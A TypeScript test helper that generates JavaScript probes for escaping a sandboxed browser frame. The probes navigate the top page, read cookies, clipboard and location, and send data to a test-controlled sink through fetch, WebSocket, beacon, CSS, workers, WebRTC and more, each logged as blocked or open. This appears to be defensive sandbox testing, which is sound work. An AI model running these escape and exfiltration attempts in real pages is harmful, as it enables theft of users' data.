// What a hostile app would try: each way out of the frame that a browser has, at once. Plain JavaScript as text, for it runs in the
// frame as an app, and without one as the control that shows that the sinks would see it.

/** Ways out that take the frame away with them, whether they get there or not. */
export function lastTries(sink: string): string[] {
  return [
    `location.href = ${JSON.stringify(`${sink}/self?secret`)}`,
    `location.href = "/api/generate/capabilities?attack"`,
    `document.body.append(Object.assign(document.createElement("form"), { id: "last", method: "post", action: ${JSON.stringify(`${sink}/form`)} }))
     HTMLFormElement.prototype.submit.call(document.getElementById("last"))`,
  ];
}

/** Reports to the console, one line for each try: "ATTACK name: blocked …" or "ATTACK name: OPEN …", at the end "ATTACKS DONE". */
export function attackOn(sink: string): string {
  return `
const SINK = ${JSON.stringify(sink)}
const PORT = new URL(SINK).port
const report = (line) => console.log("ATTACK " + line)
const settled = (element) => new Promise((ok, no) => { element.onload = () => ok("loaded"); element.onerror = () => no(new Error("error event")) })
const soon = (words) => new Promise((ok) => setTimeout(() => ok(words), 400))
const add = (tag, fields, parent = document.head) => { const element = Object.assign(document.createElement(tag), fields); parent.append(element); return element }
const blob = (code) => URL.createObjectURL(new Blob([code], { type: "text/javascript" }))
const tries = {
  "origin": () => { if (self.origin === "null") throw new Error("opaque"); return self.origin },
  "document of the page": () => parent.document.title + (parent === window ? "" : "!"),
  "address of the page": () => { if (top === window) throw new Error("alone"); top.location.href = SINK + "/top"; return soon("set, see the page") },
  "cookies": () => document.cookie,
  "storage": () => indexedDB.open("x").constructor.name,
  "caches": () => caches.open("x"),
  "request to the app": () => new Promise((ok, no) => { const x = new XMLHttpRequest(); x.open("GET", "/api/generate/capabilities?attack"); x.onload = () => ok(x.status); x.onerror = () => no(new Error("error")); x.send() }),
  "request": () => new Promise((ok, no) => { const x = new XMLHttpRequest(); x.open("GET", SINK + "/xhr"); x.onload = () => ok("sent"); x.onerror = () => no(new Error("error")); x.send() }),
  "fetch": () => fetch(SINK + "/fetch").then(() => "sent"),
  "web socket": () => new Promise((ok, no) => { const w = new WebSocket(SINK.replace("http", "ws") + "/ws"); w.onopen = () => ok("open"); w.onerror = () => no(new Error("error")) }),
  "event source": () => new Promise((ok, no) => { const w = new EventSource(SINK + "/events"); w.onopen = () => ok("open"); w.onerror = () => no(new Error("error")) }),
  "beacon": () => { navigator.sendBeacon(SINK + "/beacon", "x"); throw new Error("see the sink") },
  "image": () => settled(add("img", { src: SINK + "/image" }, document.body)),
  "video": () => { add("video", { src: SINK + "/video", autoplay: true, muted: true }, document.body); throw new Error("see the sink") },
  "styles": () => { add("style", { textContent: "@import url(" + SINK + "/import.css); @font-face { font-family: q; src: url(" + SINK + "/font) } body { background: url(" + SINK + "/css); font-family: q }" }); throw new Error("see the sink") },
  "style sheet": () => settled(add("link", { rel: "stylesheet", href: SINK + "/sheet.css" })),
  "script": () => settled(add("script", { src: SINK + "/script.js" })),
  "import in a blob": () => settled(add("script", { type: "module", src: blob("import " + JSON.stringify(SINK + "/static.js")) })),
  "import() in a blob": () => new Promise((ok, no) => { globalThis.told = (e) => e ? no(e) : ok("imported"); add("script", { type: "module", src: blob("import(" + JSON.stringify(SINK + "/dynamic.js") + ").then(() => told(), told)") }); setTimeout(() => no(new Error("silent")), 400) }),
  "eval": () => (0, eval)("1"),
  "Function": () => new Function("return 1")(),
  "wasm": () => WebAssembly.compile(new Uint8Array([0, 97, 115, 109, 1, 0, 0, 0])),
  "worker": () => new Promise((ok, no) => { const w = new Worker(blob("postMessage(1)")); w.onmessage = () => ok("runs"); w.onerror = () => no(new Error("error")) }),
  "shared worker": () => { new SharedWorker("data:text/javascript,1"); throw new Error("silent") },
  "service worker": () => navigator.serviceWorker.register("/sw.js"),
  "window": () => { const w = window.open(SINK + "/window"); if (!w) throw new Error("none"); return "open" },
  "frame": () => { add("iframe", { src: SINK + "/frame" }, document.body); throw new Error("see the sink") },
  "frame of its own text": () => new Promise((ok, no) => { addEventListener("message", (e) => { if (e.data === "nested") ok("runs") }); add("iframe", { srcdoc: "<img src=" + SINK + "/nested><script>parent.postMessage('nested', '*')</" + "script>" }, document.body); setTimeout(() => no(new Error("silent")), 400) }),
  "blank frame": () => add("iframe", {}, document.body).contentWindow.fetch(SINK + "/blank").then(() => "sent"),
  "object": () => { add("object", { data: SINK + "/object" }, document.body); throw new Error("see the sink") },
  "hints": () => { for (const rel of ["prefetch", "preload", "preconnect", "dns-prefetch", "modulepreload", "prerender", "icon", "manifest"]) add("link", { rel, as: "image", href: SINK + "/hint-" + rel }); throw new Error("see the sink") },
  "speculation rules": () => { add("script", { type: "speculationrules", textContent: JSON.stringify({ prefetch: [{ source: "list", urls: [SINK + "/rules"] }] }) }); throw new Error("see the sink") },
  "ping": () => { add("a", { href: "#", ping: SINK + "/ping" }, document.body).click(); throw new Error("see the sink") },
  "WebRTC": async () => { const pc = new RTCPeerConnection({ iceServers: [{ urls: "stun:127.0.0.1:" + PORT }] }); pc.createDataChannel("x"); await pc.setLocalDescription(await pc.createOffer()); return soon("offered") },
  "WebTransport": () => new WebTransport("https://127.0.0.1:" + PORT).ready,
  "clipboard": () => navigator.clipboard.readText(),
  "place": () => new Promise((ok, no) => navigator.geolocation.getCurrentPosition(() => ok("found"), no)),
  "microphone": () => navigator.mediaDevices.getUserMedia({ audio: true }),
  "full screen": () => document.documentElement.requestFullscreen(),
}
async function attack() {
  await Promise.all(Object.entries(tries).map(async ([name, run]) => {
    const late = new Promise((_, no) => setTimeout(() => no(new Error("no answer")), 1500))
    try { report(name + ": OPEN " + String(await Promise.race([Promise.resolve().then(run), late])).slice(0, 60)) }
    catch (error) { report(name + ": blocked " + String(error && error.message || error).slice(0, 60)) }
  }))
  console.log("ATTACKS DONE")
}`;
}
